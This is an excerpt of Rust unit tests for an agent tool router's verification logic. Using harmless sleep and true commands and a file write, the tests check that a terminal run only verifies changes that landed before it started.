    // Wait until the command is running (its call has started), then write.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !std::fs::read_dir("/proc").unwrap().flatten().any(|p| {
        std::fs::read(p.path().join("cmdline")).is_ok_and(|c| c.starts_with(b"sleep\x001.5"))
    }) {
        assert!(
            std::time::Instant::now() < deadline,
            "the command never ran"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let e = r.call("write_file", json!({"path": "a.txt", "content": "a"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    let e = run.join().unwrap();
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert_eq!(r.verdict(), Verdict::Unverified);
    // Positive control: a run that starts after the change verifies it.
    let e = r.call("terminal", json!({"command": "true"}));
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert_eq!(r.verdict(), Verdict::Verified);
}

/// Nor a change that started before it but landed while it ran (a write whose confirmation was
/// still open when the command started).
#[test]
fn a_run_does_not_verify_a_change_that_landed_while_it_ran() {
    struct Gate {
        entered: std::sync::mpsc::SyncSender<()>,
        release: Mutex<std::sync::mpsc::Receiver<()>>,
    }
    impl spear_policy::Confirmer for Gate {
        fn confirm(&self, _request: &spear_policy::ConfirmRequest) -> Confirmation {
            self.entered.send(()).unwrap();
            self.release.lock().unwrap().recv().unwrap();
            Confirmation::Approved
        }
    }
    let env = Env::new();
    let (entered_tx, entered) = std::sync::mpsc::sync_channel(1);
    let (release, release_rx) = std::sync::mpsc::channel();
    let mut opts = Opts::mode(Ask);
    opts.confirmer = Some(Box::new(Gate {
        entered: entered_tx,
        release: Mutex::new(release_rx),
    }));
    let r = Arc::new(router(&env, opts));
    let write = {
        let r = Arc::clone(&r);
        std::thread::spawn(move || r.call("write_file", json!({"path": "a.txt", "content": "a"})))
    };
    entered.recv().unwrap();
    let run = {
        let r = Arc::clone(&r);
        // Read-only: ASK runs it without asking.
        std::thread::spawn(move || r.call("terminal", json!({"command": "sleep 1.7"})))
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !std::fs::read_dir("/proc").unwrap().flatten().any(|p| {
        std::fs::read(p.path().join("cmdline")).is_ok_and(|c| c.starts_with(b"sleep\x001.7"))
    }) {
        assert!(
            std::time::Instant::now() < deadline,
            "the command never ran"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    release.send(()).unwrap();
    let e = write.join().unwrap();
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    let e = run.join().unwrap();
    assert_eq!(e.result.status, ToolStatus::Ok, "{e:?}");
    assert_eq!(r.verdict(), Verdict::Unverified);
}
